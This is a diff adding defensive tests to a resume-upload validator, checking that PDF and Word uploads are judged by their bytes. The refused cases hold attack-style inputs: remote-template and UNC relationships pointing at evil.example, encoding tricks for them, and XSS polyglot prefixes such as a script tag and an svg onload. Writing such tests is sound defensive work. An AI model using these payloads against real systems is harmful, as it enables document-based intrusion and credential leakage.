@@ -2,9 +2,13 @@ import { strToU8, zipSync } from 'fflate';
 import { checkResume } from '@/lib/server/applications/resume-check';
 import {
   docxFile,
+  docxPointingTo,
   lockedDocx,
   oleFile,
   pdfFile,
+  relationTo,
+  renamed,
+  streamedDocx,
   withUnpackedSize,
   wordFile,
 } from '@/__tests__/support/resume-files';
@@ -22,6 +26,7 @@ function pdfBehind(count: number, begin = new Uint8Array()) {
   file.set(pdfFile(), count);
   return file;
 }
+const bigDocx = () => docxFile({ more: { 'word/big.xml': 'x'.repeat(800_000) } });
 const lockedPdf = () => strToU8('%PDF-1.4\ntrailer<</Root 1 0 R /Encrypt 9 0 R>>\n%%EOF\n');
 const check = (name: string, bytes: Uint8Array, type = '') => checkResume({ name, type, bytes });
 
@@ -31,10 +36,19 @@ describe('a resume is what its bytes say (VL-09, CN-03)', () => {
     ['a PDF of exactly 5242880 bytes', 'cv.pdf', pdfFile(5_242_880), 'cv.pdf'],
     ['a PDF after lines of its scanner', 'cv.pdf', pdfBehind(500), 'cv.pdf'],
     ['a PDF whose mark ends the first 1024 bytes', 'cv.pdf', pdfBehind(1_019), 'cv.pdf'],
+    ['a PDF after the sign of its alphabet', 'cv.pdf', pdfBehind(3, strToU8('\ufeff')), 'cv.pdf'],
+    [
+      'a PDF after what a printer is told',
+      'cv.pdf',
+      pdfBehind(60, strToU8('\u001b%-12345X@PJL JOB NAME="cv < 2"\r\n')),
+      'cv.pdf',
+    ],
     // Most of these open without asking: they only forbid changes. Nobody can tell without breaking the seal.
     ['a PDF that says it is encrypted', 'cv.pdf', lockedPdf(), 'cv.pdf'],
     ['a Word 97 document', 'cv.doc', wordFile(), 'cv.doc'],
     ['a Word document', 'cv.docx', docxFile(), 'cv.docx'],
+    ['a document that is not packed', 'cv.docx', docxFile({ isPacked: false }), 'cv.docx'],
+    ['a document packed in one go', 'cv.docx', streamedDocx(), 'cv.docx'],
     ['a PDF that calls itself Word', 'cv.docx', pdfFile(), 'cv.pdf'],
     ['a Word document with the old extension', 'cv.doc', docxFile(), 'cv.docx'],
     [
@@ -58,6 +72,29 @@ describe('a resume is what its bytes say (VL-09, CN-03)', () => {
     ['one byte too many', 'cv.pdf', pdfFile(5_242_881), SIZE],
     ['a PDF whose mark comes too late', 'cv.pdf', pdfBehind(1_020), TYPE],
     ['a program that carries a PDF', 'cv.pdf', pdfBehind(64, PROGRAM), TYPE],
+    [
+      'relations in wide letters',
+      'cv.docx',
+      docxFile({
+        more: { '_rels/.rels': Buffer.from(relationTo('https://evil.example/'), 'utf16le') },
+      }),
+      TYPE,
+    ],
+    ['a file larger than the directory says', 'cv.docx', withUnpackedSize(bigDocx(), 2, 10), TYPE],
+    [
+      'a file smaller than the directory says',
+      'cv.docx',
+      withUnpackedSize(bigDocx(), 2, 900_000),
+      TYPE,
+    ],
+    [
+      'a file that both of its headers lie about',
+      'cv.docx',
+      withUnpackedSize(bigDocx(), 2, 10, true),
+      TYPE,
+    ],
+    ['a file under two names', 'cv.docx', renamed(bigDocx(), 'word/big.xml', 'word/bad.xml'), TYPE],
+    ['two files of one name', 'cv.docx', docxFile({ more: { 'word/Document.xml': 'x' } }), TYPE],
     ['an empty file', 'cv.pdf', new Uint8Array(), TYPE],
     ['a program with a PDF name', 'cv.pdf', PROGRAM, TYPE],
     ['a text with a Word name', 'cv.doc', strToU8('Jo Whitfield, RN'), TYPE],
@@ -109,6 +146,64 @@ describe('a resume is what its bytes say (VL-09, CN-03)', () => {
     ['the first eight bytes of a compound file', 'cv.doc', wordFile().slice(0, 8), TYPE],
   ])('%s is refused', async (_, name, bytes, problem) => {
     expect(await check(name, bytes)).toEqual({ problem });
+  });
+
+  it.each([
+    ['a link to a page', relationTo('https://example.com/', 'hyperlink')],
+    ['a link to write to', relationTo('mailto:jo@example.com', 'hyperlink')],
+    ['the template it was made from', relationTo('file:///C:\\Users\\Jo\\Resume.dotx')],
+    ['its template on a Mac', relationTo('file:///Users/jo/Library/My%20Resume.dotx')],
+    ['its template by name', relationTo('Normal.dotm')],
+    ['its template on a newer Mac', relationTo('file://localhost/Users/jo/Resume.dotx')],
+    ['its template on an older Mac', relationTo('Macintosh HD:Users:jo:Resume.dotx')],
+    ['its template by drive', relationTo('file:C:\\Templates\\Resume.dotx')],
+    ['a picture pasted from a page', relationTo('https://example.com/a.png', 'image')],
+    ['a picture pasted from a mail', relationTo('cid:image001.png@01DA', 'image')],
+    ['a part of its own', relationTo('styles.xml', 'styles', 'Internal')],
+  ])('a document with %s is sent on', async (_, relation) => {
+    const bytes = docxPointingTo(relation);
+    expect(await check('cv.docx', bytes)).toEqual({ resume: { fileName: 'cv.docx', bytes } });
+  });
+
+  it.each([
+    relationTo('https://evil.example/t.dotm'),
+    relationTo('http://evil.example/t.dotm', 'attachedTemplate', ' eXternal '),
+    relationTo('&#104;ttp://evil.example/t.dotm'),
+    relationTo('\\\\evil.example\\t.dotm'),
+    relationTo('//evil.example/t.dotm'),
+    relationTo('file://evil.example/t.dotm'),
+    relationTo('file:///\\\\evil.example\\t.dotm'),
+    relationTo('file:///%5C%5Cevil.example%5Ct.dotm'),
+    relationTo('file:////evil.example/t.dotm'),
+    relationTo('/\\evil.example/t.dotm'),
+    relationTo('mhtml:https://evil.example/a!x', 'oleObject'),
+    relationTo('\\\\evil.example\\a.png', 'image'),
+    relationTo('file://evil.example/a.png', 'image'),
+    relationTo('http:evil.dotm'),
+    relationTo('https://evil.example/a.htm', 'frame'),
+    relationTo('https://evil.example/a.docx', 'subDocument'),
+    relationTo('https://evil.example/a.docx', 'hyperlinks'),
+    relationTo('https://evil.example/t.dotm', 'attachedTemplate', 'Internal'),
+    relationTo('https://evil.example/t.dotm').replaceAll('"', "'"),
+    relationTo('https://evil.example/t.dotm')
+      .replace('<', '<r:')
+      .replace('External', '&#x45;xternal'),
+    relationTo('https://evil.example/t.dotm').replace('Id=', 'Id=rId1 x='),
+    '<!DOCTYPE x [<!ENTITY e "External">]>',
+  ])('a document that loads %s is refused', async (relation) => {
+    expect(await check('cv.docx', docxPointingTo(relation))).toEqual({ problem: TYPE });
+  });
+
+  it.each([
+    '<html><script>alert(1)</script>',
+    '\n<!doctype html>',
+    '<!-- x -->',
+    '<',
+    'x</title><svg onload=alert(1)>',
+    '<\0h\0t\0m\0l\0>\0',
+  ])('a PDF behind %j is refused', async (begin) => {
+    const bytes = pdfBehind(begin.length, strToU8(begin));
+    expect(await check('cv.pdf', bytes)).toEqual({ problem: TYPE });
   });
 
   it('is taken by its MIME type where the name has no extension', async () => {
